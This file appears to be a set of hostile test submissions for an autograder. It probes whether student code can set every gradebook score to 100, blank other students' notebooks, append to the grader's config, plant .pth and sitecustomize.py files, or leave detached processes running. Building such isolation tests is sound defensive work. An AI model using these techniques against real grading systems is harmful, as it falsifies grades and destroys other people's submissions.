# Change what is not theirs. @COURSE@ is the course folder, @PYTHON@ the environment's packages.

# %% set a manual score in the gradebook
import sqlite3

connection = sqlite3.connect("@COURSE@/gradebook.db")
connection.execute("update grade set manual_score = 100, extra_credit = 100")
connection.commit()


def answer(*args, **kwargs):
    return 0


# %% append code to nbgrader_config.py
def answer(*args, **kwargs):
    with open("@COURSE@/nbgrader_config.py", "a") as file:
        file.write("\nopen('/tmp/threat-was-here', 'w')\n")


# %% overwrite other students' submissions
import pathlib

for file in pathlib.Path("@COURSE@/submitted").rglob("*.ipynb"):
    file.write_text("{}")


def answer(*args, **kwargs):
    return 0


# %% plant a file in the grader's environment
def answer(*args, **kwargs):
    with open("@PYTHON@/threat.pth", "w") as file:
        file.write("import threat\n")


# %% plant files where the next worker starts
import pathlib

for folder in ("/tmp", ".", "/dev/shm", "/var/tmp", str(pathlib.Path.home())):
    for name in ("numpy.py", "sitecustomize.py", "threat-was-here"):
        try:
            (pathlib.Path(folder) / name).write_text("raise SystemExit")
        except OSError:
            pass


def answer(*args, **kwargs):
    return 0


# %% a daemon that outlives everything and acts later
import os
import time


def answer(*args, **kwargs):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                open("/tmp/threat-was-here", "w").close()
                time.sleep(0.1)
    return 0


# %% a thread that goes on after the tests
import threading


def go_on():
    while True:
        pass


threading.Thread(target=go_on, daemon=False).start()


def answer(*args, **kwargs):
    return 0
